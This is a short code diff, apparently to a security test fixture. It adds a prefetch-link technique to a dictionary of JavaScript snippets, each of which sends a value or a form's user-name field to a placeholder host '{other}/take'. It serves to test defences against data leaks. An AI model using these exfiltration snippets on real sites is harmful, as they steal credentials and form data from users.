@@ -54,6 +54,7 @@ SCRIPTS = {
     "header": "fetch('{other}/take',{headers:{Accept:btoa('annabel:'+x)}})",
     "window": "window.open('').location='{other}/take?p='+x",
     "worker": "new Worker('/send.js').postMessage(x)",
+    "fetched ahead": "{const l=document.createElement('link');l.rel='prefetch';l.href='{other}/take?p='+encodeURIComponent(x);document.head.append(l)}",
     "user name alone": "fetch('{other}/take?who='+f.u.value,{mode:'no-cors'})",
 }
 
